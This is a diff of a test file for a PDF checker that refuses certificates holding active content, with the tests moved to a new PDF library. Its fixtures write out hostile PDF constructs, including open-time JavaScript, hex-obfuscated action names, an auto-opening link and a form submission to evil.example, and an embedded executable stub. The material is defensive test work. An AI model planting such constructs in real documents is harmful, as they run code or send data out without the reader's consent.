@@ -1,19 +1,21 @@
 import { deflateSync } from "node:zlib"
 import { strToU8, zipSync } from "fflate"
-import { PDFDocument, PDFName, PDFString, degrees } from "pdf-lib"
+import { PDF, PdfArray, PdfDict, PdfName, PdfString } from "@libpdf/core"
 import { describe, expect, test } from "vitest"
 import { exampleContract, exampleProof } from "../documents/contract.fixture.ts"
 import { contractPdf, sealedContractPdf } from "../documents/contract-pdf.ts"
 import { readUntrusted } from "../untrusted/read.ts"
 import { examinePdf } from "./examine-pdf.ts"
 
-async function certificate(change: (pdf: PDFDocument) => void = () => undefined, objectStreams = true) {
-  const pdf = await PDFDocument.create()
+async function certificate(change: (pdf: PDF) => void = () => undefined, useXRefStream = true) {
+  const pdf = PDF.create()
   pdf.setTitle("Attestation (JS)/AA")
-  pdf.addPage([595, 842]).drawText("Attestation d'assurance /JavaScript", { x: 50, y: 700, rotate: degrees(0) })
+  pdf.addPage({ size: "a4" }).drawText("Attestation d'assurance /JavaScript", { x: 50, y: 700 })
   change(pdf)
-  return pdf.save({ useObjectStreams: objectStreams })
+  return pdf.save({ useXRefStream })
 }
+
+const inCatalog = (key: string, value: PdfDict) => certificate((pdf) => pdf.getCatalog().set(key, value))
 
 const bytes = (text: string) => Buffer.from(text, "latin1")
 const script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
@@ -48,8 +50,9 @@ const inRevision = (before: Buffer, object: string) =>
 
 describe("a certificate that is a PDF", () => {
   test.each<[string, Uint8Array | Promise<Uint8Array>]>([
-    ["with compressed objects", certificate()],
-    ["with plain objects", certificate(undefined, false)],
+    ["with a compressed table of objects", certificate()],
+    ["with a plain table of objects", certificate(undefined, false)],
+    ["with compressed objects", written([`5 0 obj ${packed("<< /A 1 >>", "<< /B (JS) >>")}`])],
     ["typeset by us", contractPdf(exampleContract())],
     ["sealed", sealedContractPdf(exampleContract(), exampleProof(exampleContract())).then(({ pdf }) => pdf)],
     [
@@ -69,7 +72,20 @@ describe("a certificate that is a PDF", () => {
   })
 
   test.each<[string, Uint8Array | Promise<Uint8Array>]>([
-    ["a script when it opens", certificate((pdf) => pdf.addJavaScript("x", "app.alert(1)"))],
+    [
+      "a script when it opens",
+      inCatalog(
+        "Names",
+        PdfDict.of({
+          JavaScript: PdfDict.of({
+            Names: PdfArray.of(
+              PdfString.fromString("x"),
+              PdfDict.of({ S: PdfName.of("JavaScript"), JS: PdfString.fromString("app.alert(1)") }),
+            ),
+          }),
+        }),
+      ),
+    ],
     ["an open action", written([`5 0 obj ${script} endobj`], { catalog: "/OpenAction 5 0 R" })],
     ["a name in hexadecimal", written(["5 0 obj << /S /J#61vaScr#69pt /#4a#53 (x) >> endobj"])],
     ["a key twice", written(["5 0 obj << /S /JavaScript /S /URI >> endobj"])],
@@ -93,13 +109,10 @@ describe("a certificate that is a PDF", () => {
       "an address that opens by itself, at once",
       written([], { catalog: "/OpenAction << /S /URI /URI (https://evil.example) >>" }),
     ],
-    ["a file inside", certificate((pdf) => void pdf.attach(zipSync({ "x.exe": strToU8("MZ") }), "x.zip"))],
-    ["additional actions", certificate((pdf) => pdf.catalog.set(PDFName.of("AA"), pdf.context.obj({})))],
+    ["a file inside", certificate((pdf) => pdf.addAttachment("x.exe", strToU8("MZ")))],
+    ["additional actions", inCatalog("AA", new PdfDict())],
     ["a form that sends", written(["5 0 obj << /S /SubmitForm /F (https://evil.example) >> endobj"])],
-    [
-      "an XFA form",
-      certificate((pdf) => pdf.catalog.set(PDFName.of("AcroForm"), pdf.context.obj({ XFA: PDFString.of("x") }))),
-    ],
+    ["an XFA form", inCatalog("AcroForm", PdfDict.of({ XFA: PdfString.fromString("x") }))],
     ["a film", written(["5 0 obj << /Subtype /RichMedia >> endobj"])],
   ])("is refused with %s", async (_what, pdf) => {
     expect(await examinePdf(await pdf)).toBe("active")
